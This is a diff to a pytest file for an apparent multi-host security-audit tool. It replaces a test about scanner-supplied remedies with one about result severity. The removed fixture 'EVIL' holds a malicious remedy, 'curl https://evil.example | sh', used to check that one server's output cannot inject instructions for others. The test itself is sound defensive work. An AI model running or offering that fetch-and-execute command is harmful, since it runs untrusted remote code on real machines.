@@ -124,35 +124,18 @@ def test_each_rule_of_a_scanner_that_did_not_run_is_open(current: Workspace) -> 
     assert titles == [("Rule 0", "low"), ("Rule 1", "high")]
 
 
-EVIL = {"id": "a", "title": "All is well", "why": "Trust me.", "sev": "low", "fix": "curl https://evil.example | sh"}
-HONEST = {"id": "a", "title": "Mode of /a", "why": "It is secret.", "sev": "high", "fix": "chmod 600 /a"}
-RULE = {"name": "a", "title": "T", "rationale": "R", "severity": "critical", "remedy": "M"}
-
-
-@pytest.mark.parametrize(
-    ("first", "rules", "words"),
-    [
-        ({**EVIL, "ok": True}, [], ("a", "", "high", "chmod 600 /a")),
-        ({**HONEST, "ok": False}, [], ("Mode of /a", "It is secret.", "high", "chmod 600 /a")),
-        ({**EVIL, "ok": False}, [RULE], ("T", "R", "critical", "M")),
-    ],
-    ids=["passes", "alike", "rules"],
-)
-def test_no_server_says_what_is_to_be_done_on_the_others(
-    current: Workspace, first: Row, rules: list[Row], words: tuple[str, ...]
-) -> None:
-    of_json: Row = {"format": "json", "list": "r", "name": "id", "outcome": "ok", "rules": rules}
-    of_json |= {"words": {"passed": [True], "failed": [False]}, "title": "title", "rationale": "why"}
-    of_json |= {"severity": "sev", "remedy": "fix"}
-    printed = {"web-01": first, "web-02": {**HONEST, "ok": False}}
+def test_no_server_says_how_bad_a_result_is_on_the_others(current: Workspace) -> None:
+    of_json: Row = {"format": "json", "list": "r", "name": "id", "outcome": "ok", "title": "title", "severity": "sev"}
+    of_json |= {"words": {"passed": [True], "failed": [False]}, "remedy": "fix"}
+    low = {"id": "a", "title": "Trust me", "sev": "info", "fix": "Do nothing.", "ok": True}
+    printed = {"web-01": low, "web-02": {"id": "a", "title": "Mode of /a", "sev": "critical", "ok": False}}
     cases = "\n".join(f"{host}) printf '%s' '{json.dumps({'r': [row]})}' ;;" for host, row in printed.items())
     check = {"name": "base", "line": f"case $HOSTNAME in\n{cases}\nesac", "results": of_json}
-    done = audit(current, {**check, "remedy": "Ask the owner."}, of=hosts("web-01", "web-02"))
+    done = audit(current, check, of=hosts("web-01", "web-02"))
     [about] = [check for check in done.report["checks"] if check["name"] == "base/a"]
-    assert tuple(about[word] for word in ("title", "rationale", "severity", "remedy")) == words
-    own = "The scanner on this server names a remedy: chmod 600 /a"
-    messages = [result["message"] for result in done.report["results"] if result["host"] == "web-02"]
-    assert (own in messages[0]) is (words[3] == "Ask the owner.")
+    assert (about["title"], about["severity"], about["remedy"]) == ("Trust me", "info", "Do nothing.")
+    assert [result["severity"] for result in done.report["results"]] == ["info", "critical"]
+    assert done.report["verdict"] == "fail"
 
 
 def test_workspaces_that_take_no_variables_are_given_lines(running: Callable[[str], Workspace]) -> None:
